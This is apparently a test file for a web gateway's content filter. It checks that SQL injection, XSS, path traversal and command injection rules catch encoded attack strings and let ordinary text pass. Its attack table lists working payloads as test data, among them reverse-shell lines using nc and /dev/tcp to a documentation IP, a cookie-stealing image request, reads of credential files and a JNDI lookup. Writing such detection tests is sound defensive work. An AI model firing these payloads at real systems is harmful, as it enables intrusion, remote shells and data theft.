import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Outcome, Step } from '@sluice/core'
import { cpuMs } from '@sluice/core/testing'
import { requirementOf } from '../../shared/text/required-literals.js'
import { exchange, testEnv } from '../../testing.js'
import { PACKS, type PackName } from './packs/packs.js'
import { contentFilter } from './policy.js'
import { SCANNED } from './testing/attacks.js'
import { BENIGN } from './testing/benign.js'

const ALL: PackName[] = ['sqli', 'xss', 'path-traversal', 'command-injection']
const all = contentFilter.compile({ packs: ALL }, testEnv()) as Step

/** The rules that are found in a value, wherever it stands. */
function found(value: string, step: Step = all): string {
  const x = exchange({ query: `q=${encodeURIComponent(value)}` })
  step.onRequest!(x)
  return x.vars?.get('content-filter.rule') ?? ''
}

function isBlockedInBody(body: string | Buffer, type: string): boolean {
  const x = exchange({ headers: ['content-type', type] })
  return (all.onRequestBody!(x, Buffer.from(body)) as Outcome) !== null
}

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  sqli: [
    "1' UNION SELECT username, password FROM users--",
    '1 union all select 1,2,3',
    'x") UNION(SELECT(1))',
    'UnIoN/**/SeLeCt 1',
    'uni\u0000on sel\u0000ect 1',
    'union/*!50000select*/ 1',
    "' or '1'='1",
    '" OR ""="" or "a"="a',
    "x') or ('a'='a",
    '1 or 1=1',
    '1 AND 1 = 2',
    "admin'--",
    '1; DROP TABLE users',
    "1; update users set role='admin'",
    '1 and sleep(5)',
    "1; WAITFOR DELAY '0:0:5'",
    'benchmark(10000000,md5(1))',
    "load_file('/x')",
    "1 into outfile '/tmp/x'",
    'select table_name from information_schema.tables',
    'select * from users',
    'select name, pass from users',
    'extractvalue(1,concat(0x7e,version()))',
    "1' order by 10",
  ],
  xss: [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//example.com/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '"><body onpageshow =alert(1)>',
    '<a href="javascript:alert(1)">',
    '<a href="jav\tascript:alert(1)">',
    '<a href="&#106;avascript&colon;alert(1)">',
    '<a href="java&Tab;script:go(1)">',
    '<a href="java&NewLine;script:go(1)">',
    '<a href="j&#10;a&#x0D;v&Tab;ascript&#9;:go(1)">',
    '<a href="&#0000000000106;avascript&#x000000000003Ago(1)">',
    '<a href="jav&#97script&colon;go&lpar;1&rpar;">',
    '&ltscript&gtgo',
    '&amplt;script',
    '<iframe src=//example.com>',
    '\\u003cscript\\u003ealert(1)',
    'data:text/html,<b>',
    'new Image().src="//x/?"+document.cookie',
    '\uff1cscript\uff1ealert(1)',
    '&lt;script&gt;',
  ],
  'path-traversal': [
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '..%2f..%2fetc%2fpasswd',
    '%2e%2e%2f%2e%2e%2fx',
    '..%252f..%252fx',
    '%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%af',
    '....//....//etc/passwd',
    '/..;/manager/html',
    '/etc/shadow',
    '/proc/self/environ',
    'php://filter/convert.base64-encode/resource=index',
    '/.git/config',
    '/WEB-INF/web.xml',
    '/.env',
  ],
  'command-injection': [
    '; cat /etc/hostname',
    '| ls -la',
    '`whoami`',
    '$(curl http://example.com)',
    'x;id',
    '&& wget http://example.com/x',
    '; ping -c 10 127.0.0.1',
    '/bin/bash -c x',
    'cmd.exe /c dir',
    'powershell -enc AAAA',
    'nc -e /bin/sh 192.0.2.1 4444',
    'bash -i >& /dev/tcp/192.0.2.1/80',
    ';cat$IFS/x',
    '() { :; }; echo x',
    '${jndi:ldap://example.com/a}',
    '${${::-j}ndi:x}',
  ],
}

for (const pack of ALL) {
  test(`${pack} finds what scanners send`, () => {
    const step = contentFilter.compile({ packs: [pack] }, testEnv()) as Step
    for (const attack of ATTACKS[pack]!) assert.ok(found(attack, step).startsWith(`${pack}/`), attack)
  })

  test(`${pack} is part of what finds published payloads`, () => {
    for (const attack of SCANNED[pack]!) assert.notEqual(found(attack), '', attack)
  })
}

for (const [kind, texts] of Object.entries(BENIGN)) {
  test(`nothing is found in ordinary ${kind}`, () => {
    for (const text of texts) {
      assert.equal(found(text), '', text)
      assert.ok(!isBlockedInBody(JSON.stringify({ text }), 'application/json'), text)
      assert.ok(!isBlockedInBody(text, 'text/plain'), text)
    }
  })
}

test('an attack is found in every disguise, also one after the other', () => {
  const attack = "' union select 1 from dual-- <script>"
  const escapes = (write: (code: string) => string): string =>
    [...attack].map((one) => write(one.charCodeAt(0).toString(16).padStart(2, '0'))).join('')
  for (const disguised of [
    escapes((hex) => `%${hex}`),
    escapes((hex) => `%25${hex}`),
    escapes((hex) => `%u00${hex}`),
    escapes((hex) => `&#x${hex};`),
    escapes((hex) => `&#${Number.parseInt(hex, 16)}`),
    escapes((hex) => `\\u00${hex}`),
    escapes((hex) => `\\x${hex}`),
    escapes((hex) => `%26%23x${hex}%3b`),
    [...attack].join('\u200b'),
    [...attack].join('\0'),
    attack.replaceAll(' ', '/**/'),
    attack.replaceAll(' ', '\n\t'),
    [...attack].map((one, i) => (i % 2 === 0 ? one.toUpperCase() : one)).join(''),
  ]) {
    assert.notEqual(found(disguised), '', disguised)
    assert.ok(isBlockedInBody(JSON.stringify({ a: disguised }), 'application/json'), disguised)
    assert.ok(
      isBlockedInBody(`a=${encodeURIComponent(disguised)}`, 'application/x-www-form-urlencoded'),
      disguised,
    )
    assert.ok(isBlockedInBody(disguised, 'text/plain'), disguised)
  }
})

test('text that one decoding step removes is still scanned before that step', () => {
  for (const attack of [
    '/*%3Cscript%3Ealert(1)%3C/script%3E',
    '/*&lt;script&gt;alert(1)',
    '/*<script>*/',
    '/*%2e%2e/%2e%2e/',
    '/*%24%7Bjndi:ldap://example.com%7D',
    '%2e%2e%5c%2e%2e%5cboot.ini',
  ]) {
    assert.notEqual(found(attack), '', attack)
    assert.ok(isBlockedInBody(attack, 'text/plain'), attack)
  }
})

test('ordinary texts pass', () => {
  for (const value of [
    "O'Neil and sons; O'Brien or O'Hara",
    'Please select one item from the list, or drop me a line.',
    'The union of both sets; select the best.',
    'Terms & conditions: 100% free -- no strings attached!',
    'if a > b and b < c or d = 5 then stop',
    'https://example.com/a/b?c=d&e=f#g',
    'SELECT is a word, and FROM is another',
    'name@example.com, +90 555 000 00 00',
    'Sort by price; order by phone',
    'C:\\Users\\me\\Documents\\new.txt',
    'function(x) { return x; }',
    'He said "yes" and "no" or "maybe"',
    'price: $(12.50), id: 7; ls: 3',
    'cat; dog; bird | fish',
    'a=1;b=2;id=3',
    'The script of the movie: scene on = 5',
    '2030-01-31T12:00:00Z',
    'eyJhbGciOiJIUzI1NiJ9.e30.abc-_',
  ]) {
    assert.equal(found(value), '', value)
  }
  const headers = [
    ...['user-agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'],
    ...[
      'user-agent',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36',
    ],
    ...['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
    ...['accept-language', 'tr-TR,tr;q=0.9,en;q=0.8'],
    ...['sec-ch-ua', '"Chromium";v="140", "Not=A?Brand";v="24"'],
    ...['cookie', 'sid=abc123; theme=dark; _ga=GA1.2.3.4; consent=%7B%22a%22%3Atrue%7D'],
    ...['content-type', 'multipart/form-data; boundary=----WebKitFormBoundaryabc'],
    ...['content-disposition', 'form-data; name="file"; filename="a.txt"'],
    ...['if-none-match', 'W/"abc--def"'],
    ...['authorization', 'Basic dXNlcjpwYXNz'],
    ...['referer', 'https://example.com/a?x=1#y'],
    ...['forwarded', 'for=192.0.2.1;proto=https'],
  ]
  const x = exchange({ rawPath: '/api/v1/orders/..hidden/a.b', headers })
  assert.equal(all.onRequest!(x), null, x.vars?.get('content-filter.rule'))
  const soap =
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:Order xmlns:m="urn:x"><m:id>1</m:id><!-- c --></m:Order></soap:Body></soap:Envelope>'
  assert.ok(!isBlockedInBody(soap, 'text/xml'))
})

test('every rule of a pack needs literals, so that ordinary text costs one pass', () => {
  for (const pack of ALL) {
    for (const { name, pattern } of PACKS[pack].rules) {
      const groups = requirementOf(pattern)
      assert.ok(groups.length > 0, `${pack}/${name}`)
      assert.ok(
        groups[0]!.every((literal) => literal.length >= 3),
        `${pack}/${name}: ${groups[0]!.join(' ')}`,
      )
    }
  }
})

test('except leaves a rule out, and a version names the same pack', () => {
  const step = contentFilter.compile({ packs: ['sqli@1'], except: ['sqli/delay'] }, testEnv()) as Step
  assert.equal(found('benchmark(10000)', step), '')
  assert.equal(found('load_file(1)', step), 'sqli/files')
})

test('10,000 header lines are refused before they are scanned', () => {
  const headers = Array.from({ length: 20_000 }, (_, i) =>
    i % 2 === 0 ? `x-${i}` : "' or 1=1 union ".repeat(4),
  )
  const log = contentFilter.compile({ packs: ALL, packAction: 'log' }, testEnv()) as Step
  const beforeMs = cpuMs()
  assert.equal((log.onRequest!(exchange({ headers })) as Outcome)?.problem?.code, 'GW_HEADERS_TOO_LARGE')
  assert.ok(cpuMs() - beforeMs < 10_000)
})

test('100 KB that nearly match every rule end within seconds', () => {
  const pieces = literalsOfAllRules()
  let text = ''
  for (let i = 0; text.length < 100_000; i++) text += pieces[(i * 7919) % pieces.length]
  const log = contentFilter.compile(
    { packs: ALL, packAction: 'log', packTargets: ['header:*'] },
    testEnv(),
  ) as Step
  for (const value of [
    text,
    "' or ".repeat(20_000),
    'union('.repeat(16_000),
    '../'.repeat(33_000),
    '<svg '.repeat(20_000),
  ]) {
    const beforeMs = cpuMs()
    log.onRequest!(exchange({ headers: ['x', value] }))
    assert.ok(cpuMs() - beforeMs < 10_000, value.slice(0, 10))
  }
})

/** Literals of all rules, which make every rule a candidate. */
function literalsOfAllRules(): string[] {
  return ALL.flatMap((pack) => PACKS[pack].rules.flatMap(({ pattern }) => requirementOf(pattern).flat()))
}
